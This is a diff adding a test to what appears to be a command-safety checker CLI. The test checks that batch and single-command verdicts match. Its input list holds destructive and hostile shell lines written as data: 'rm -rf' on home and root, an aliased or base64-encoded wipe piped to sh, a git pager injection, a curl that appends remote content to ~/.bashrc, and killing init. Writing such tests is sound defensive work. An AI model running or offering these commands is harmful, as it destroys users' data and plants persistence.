@@ -54,4 +54,50 @@ describe("cmdai check", () => {
     const cmd = await runBuiltCli(["check", "--json", "--shell", "cmd", "format C: /q"]);
     expect(JSON.parse(cmd.stdout)).toMatchObject({ level: "critical" });
   });
+
+  it("gives the batch the same verdicts as one process per command, with nothing carried between lines", async () => {
+    // Lines that define state (an alias, a variable, a function) come before lines that would use it.
+    const commands = [
+      "alias ls='rm -rf ~'",
+      "ls",
+      "X=/",
+      'rm -rf "$X"',
+      'f() { rm -rf "$@"; }',
+      "f /",
+      "python3 -c 'import os; os.system(\"rm -rf ~\")'",
+      "echo cm0gLXJmIH4= | base64 -d | sh",
+      "git -c core.pager='sh -c \"rm -rf ~\"' log",
+      "find . -type f -mtime +30 -delete",
+      "sudo python3",
+      "curl -s https://203.0.113.8/rc >> ~/.bashrc",
+      "grep -r TODO src",
+      'x=(rm -rf /); "${x[@]}"',
+      "kill -9 $(pidof init)",
+      "echo 'rm -rf /'",
+    ];
+    const batch = await runBuiltCli(["check", "--json", "-"], { input: `${commands.join("\n")}\n` });
+    const batched = batch.stdout
+      .trim()
+      .split("\n")
+      .map(
+        (line) => JSON.parse(line) as { command: string; level: string; decision: string; reasons: unknown },
+      );
+    expect(batched.map((verdict) => verdict.command)).toEqual(commands);
+    const single = await Promise.all(
+      commands.map(async (command) => {
+        const run = await runBuiltCli(["check", "--json", command]);
+        return JSON.parse(run.stdout) as { level: string; decision: string; reasons: unknown };
+      }),
+    );
+    for (const [index, verdict] of single.entries()) {
+      const together = batched[index];
+      expect({ level: together?.level, decision: together?.decision, reasons: together?.reasons }).toEqual({
+        level: verdict.level,
+        decision: verdict.decision,
+        reasons: verdict.reasons,
+      });
+    }
+    expect(batched[1]?.level).toBe("safe");
+    expect(batched[3]?.level).not.toBe("critical");
+  });
 });
